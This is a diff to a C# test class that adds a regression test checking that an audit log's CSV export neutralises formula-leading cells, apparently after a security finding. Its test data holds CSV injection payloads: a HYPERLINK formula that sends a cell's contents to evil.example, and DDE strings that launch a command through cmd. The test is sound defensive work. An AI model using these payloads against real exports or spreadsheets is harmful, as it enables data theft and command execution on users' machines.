@@ -55,6 +55,29 @@ public sealed class ExportVerificationTests
         Assert.Matches(@"^intact, \d+ entries$", IndependentChainVerifier.VerifyCsv(csv));
     }
 
+    /// <summary>Finding 8: a display name such as =HYPERLINK(...) became a formula in the CSV export.</summary>
+    [Theory]
+    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")")]
+    [InlineData("+1+cmd|' /C calc'!A0")]
+    [InlineData("-2+3")]
+    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    [InlineData("'already quoted")]
+    public async Task ExportCsv_NeutralizesFormulaLeadingCells_AndStillVerifies(string actorName)
+    {
+        await using var harness = await ServiceHarness.CreateAsync();
+        await AuditTestData.AppendAsync(harness, harness.Contoso, 2, actorName);
+
+        var csv = await ExportAsync(harness, new AuditQuery(harness.Contoso), AuditExportFormat.Csv);
+
+        var cells = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1)
+            .SelectMany(line => line.Split(',')).Select(cell => cell.TrimStart('"')).ToList();
+        Assert.DoesNotContain(cells, cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]));
+        Assert.Contains(cells, cell => cell.StartsWith("'" + actorName[..1], StringComparison.Ordinal));
+        Assert.Equal("intact, 2 entries", IndependentChainVerifier.VerifyCsv(csv));
+    }
+
     [Fact]
     public async Task ExportJson_EditedAfterExport_FailsTheDocumentedVerifierAtThatEntry()
     {
